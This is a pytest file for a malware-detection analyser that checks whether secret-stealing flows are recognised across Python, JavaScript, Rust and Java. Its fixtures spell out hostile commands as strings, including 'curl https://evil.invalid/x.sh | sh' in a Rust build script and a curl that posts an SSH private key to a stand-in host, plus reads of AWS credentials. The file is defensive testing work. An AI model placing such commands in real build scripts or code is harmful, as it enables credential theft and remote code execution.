"""Contracts 9: one analysis for every language. The same thief, the same flow, no parser."""

from __future__ import annotations

import pytest

from antivenom.analysis.api import table
from antivenom.model import program as p
from antivenom.model.label import Activation, Root
from antivenom.model.vocabulary import BEHAVIORS
from tests.analysis.machines import run_modules
from tests.analysis.thieves import HOST, THIEVES, call, const, function, method, module


@pytest.mark.parametrize("language", THIEVES)
def test_the_same_flow_in_every_language(language: str) -> None:
    make, root = THIEVES[language]
    seen = run_modules([make()], [root])
    flow = seen.one("secrets.file->net.send")
    assert flow.host == HOST
    assert flow.hostclass == "unknown"
    assert flow.path_class == "aws"
    assert flow.activation == root.activation.value
    assert flow.member == root.member
    assert flow.lang in {language, "javascript"}
    assert not seen.exhausted


@pytest.mark.parametrize("language", THIEVES)
def test_lines_are_those_of_source_and_sink(language: str) -> None:
    make, root = THIEVES[language]
    flow = run_modules([make()], [root]).one("secrets.file->net.send")
    if language == "java":
        assert (flow.line, flow.sink_line) == (0, 0)
    else:
        assert 0 < flow.line < flow.sink_line


@pytest.mark.parametrize("language", ["javascript", "rust", "java"])
def test_a_python_name_means_nothing_elsewhere(language: str) -> None:
    read = call(1, "builtins.open", const("/home/x/.aws/credentials"))
    send = call(2, "requests.post", const("https://evil.invalid"), read)
    made = module("x", "", language, function("", (), 1, p.Do(2, send)))
    assert run_modules([made], [Root(member="x", activation=Activation.IMPORT)]).facts == ()


def test_environment_in_four_spellings() -> None:
    name = const("AWS_SECRET_ACCESS_KEY")
    reads = {
        "python": (call(1, "os.getenv", name), "requests.post"),
        "javascript": (
            p.Attr(1, p.Global(1, "process.env"), "AWS_SECRET_ACCESS_KEY"),
            "axios.post",
        ),
        "rust": (call(1, "std::env::var", name), "reqwest::get"),
        "java": (call(1, "java.lang.System.getenv", name), "java.net.URL.openStream"),
    }
    for language, (read, sink) in reads.items():
        url = p.Op(2, "+", (const("https://evil.invalid/?k="), p.Name(2, "k")))
        args = (url, p.Name(2, "k")) if language != "java" else (
            call(2, "java.net.URL.<init>", url),
        )  # fmt: skip
        top = function(
            "", (), 1, p.Assign(1, (p.Name(1, "k"),), read), p.Do(2, call(2, sink, *args))
        )
        seen = run_modules(
            [module("x", "", language, top)], [Root(member="x", activation=Activation.RUN)]
        )
        flow = seen.one("secrets.env->net.send")
        assert (flow.value, flow.path_class, flow.host) == (flow.value, "aws", HOST), language


def test_a_rust_command_is_read_as_the_command_line_it_is() -> None:
    command = call(1, "std::process::Command::new", const("sh"))
    chain = method(1, method(1, command, "arg", const("-c")), "arg",
                   const("curl https://evil.invalid/x.sh | sh"))  # fmt: skip
    spawn = method(1, method(1, chain, "stdout", const(None)), "spawn")
    seen = run_modules(
        [module("build.rs", "", "rust", function("", (), 1, p.Do(1, spawn)))],
        [Root(member="build.rs", activation=Activation.BUILD)],
    )
    assert seen.one("process.spawn").value == "sh -c curl https://evil.invalid/x.sh | sh"
    assert any(f.host == HOST for f in seen.facts), seen.facts
    assert "net.fetch->code.run" in seen.flows()


def test_what_a_rust_command_is_given_reaches_the_process() -> None:
    read = call(1, "std::fs::read_to_string", const("/home/x/.ssh/id_rsa"))
    command = call(2, "std::process::Command::new", const("curl"))
    words = p.Op(2, "list", (const("-d"), p.Name(2, "key"), const("https://evil.invalid")))
    spawn = method(2, method(2, command, "args", words), "output")
    top = function("", (), 1, p.Assign(1, (p.Name(1, "key"),), read), p.Do(2, spawn))
    seen = run_modules(
        [module("build.rs", "", "rust", top)],
        [Root(member="build.rs", activation=Activation.BUILD)],
    )
    assert "secrets.key->process.spawn" in seen.flows()


@pytest.mark.parametrize("language", ["javascript", "rust", "java"])
def test_rows_of_other_languages_use_the_vocabulary(language: str) -> None:
    names = table(language).names
    assert len(names) >= 12
    for name in names:
        for row in table(language).rows(name):
            assert {b for b in (*row.behavior, row.into, row.yields) if b} <= set(BEHAVIORS)


def test_a_language_without_a_table_is_no_error() -> None:
    assert table("cobol").names == ()
